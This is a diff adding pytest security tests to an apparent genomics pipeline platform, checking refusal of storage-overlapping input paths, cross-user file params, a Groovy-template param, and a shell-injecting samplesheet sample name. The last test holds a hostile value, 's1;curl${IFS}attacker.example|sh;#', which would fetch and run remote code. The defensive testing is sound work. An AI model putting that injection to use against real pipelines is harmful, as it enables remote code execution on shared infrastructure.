@@ -480,6 +480,21 @@ def test_local_input_locations_are_refused_with_gcs_storage(tmp_path: Path) -> N
     assert os.path.isabs(Settings(input_locations=str(tmp_path)).resolved_input_locations[0])
 
 
+@pytest.mark.parametrize(
+    "location", ["gs://arc-bucket/", "gs://arc-bucket/runs/", "gs://arc-bucket/runs/run-0badc0de/"]
+)
+def test_input_locations_over_the_platforms_storage_are_refused(location: str) -> None:
+    # Else a glob or a literal path into the storage root would pass as "in an allowed location".
+    with pytest.raises(pydantic.ValidationError, match="overlaps the platform's storage"):
+        Settings(input_locations=f"gs://lab-fastq/,{location}", storage_root="gs://arc-bucket/runs")
+    Settings(input_locations="gs://arc-bucket-fastq/", storage_root="gs://arc-bucket")  # a prefix trick is no overlap
+
+
+def test_local_input_locations_over_the_storage_root_are_refused(tmp_path: Path) -> None:
+    with pytest.raises(pydantic.ValidationError, match="overlaps the platform's storage"):
+        Settings(data_dir=tmp_path, input_locations=str(tmp_path))  # holds data_dir/storage
+
+
 async def test_store_says_which_runs_the_caller_owns(platform: Running) -> None:
     store = platform.service("runs").store
     mine = await insert_run(store, owner="carol@example.com")
@@ -659,3 +674,27 @@ async def test_a_recovery_is_checked_like_a_new_run(platform: Running) -> None:
     found = violations(response)
     assert [f for f, _ in found] == ["params.fasta"] and "http:// downloads are not allowed" in found[0][1]
     assert await run_count(platform) == before
+
+
+async def test_a_file_param_without_a_format_is_checked_like_any_path(platform: Running) -> None:
+    # scrnaseq stages params.multiqc_logo into MultiQC, but no schema version gives it `format: file-path`:
+    # the manifest's path_params make it a path, so another user's results cannot be copied in through it.
+    run_id = await finished_run(platform, "bob@example.com")
+    theirs = run_file(platform, run_id, "results/fastq", "R1")
+    pair = (f"gs://{LAB}/run1/s1_R1.fastq.gz", f"gs://{LAB}/run1/s1_R2.fastq.gz")
+    body = {"pipeline": "nf-core/scrnaseq", "pipeline_version": "2.7.1"}
+    params = {**SCRNASEQ_PARAMS, "multiqc_logo": theirs}
+    found = violations(await create(platform, sheet(pair), params=params, **body))
+    assert found == [("params.multiqc_logo", f"{theirs} is not in the results/ of one of your runs")]
+    # And the param whose file scrnaseq renders as a Groovy template may not be set at all.
+    params = {**SCRNASEQ_PARAMS, "multiqc_methods_description": f"gs://{LAB}/refs/genome.fa"}
+    found = violations(await create(platform, sheet(pair), params=params, **body))
+    assert [f for f, _ in found] == ["params.multiqc_methods_description"]
+    assert "run as a Groovy template on the orchestrator" in found[0][1]
+
+
+async def test_a_sample_name_that_would_reach_a_shell_is_refused(platform: Running) -> None:
+    pair = (f"gs://{LAB}/run1/s1_R1.fastq.gz", f"gs://{LAB}/run1/s1_R2.fastq.gz")
+    hostile = "sample,fastq_1,fastq_2\n" + f"s1;curl${{IFS}}attacker.example|sh;#,{pair[0]},{pair[1]}\n"
+    found = violations(await create(platform, hostile))
+    assert [f for f, _ in found] == ["samplesheet[row 1].sample"]
